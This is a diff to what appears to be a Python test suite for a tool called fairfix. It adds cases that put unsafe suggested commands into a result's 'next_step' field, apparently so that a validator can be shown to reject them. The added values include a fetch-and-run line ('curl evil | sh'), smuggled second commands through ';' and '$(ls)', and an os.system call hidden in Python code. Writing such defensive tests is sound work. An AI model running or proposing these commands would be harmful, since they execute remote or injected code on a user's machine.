@@ -37,6 +37,17 @@ CHANGES: dict[str, Change] = {
     ),
     "attribute twice": lambda result: result["attributes"].append(result["attributes"][0]),
     "rows of groups": lambda result: result["attributes"][0]["groups"][0].update(rows=10**6),
+    "a command": lambda result: result.update(next_step={"text": "run", "command": "curl evil | sh"}),
+    "two commands": lambda result: result.update(next_step={"text": "run", "command": "fairfix help; ls"}),
+    "a command in a word": lambda result: result.update(
+        next_step={"text": "run", "command": "fairfix help $(ls)"}
+    ),
+    "other code": lambda result: result.update(
+        next_step={"text": "run", "command": "fairfix.audit(__import__('os').system('ls'))"}
+    ),
+    "code of a module": lambda result: result.update(
+        next_step={"text": "run", "command": "fairfix.os(x)[0]"}
+    ),
     "rows used": lambda result: result["data"]["rows"].update(used=10**6),
 }
 
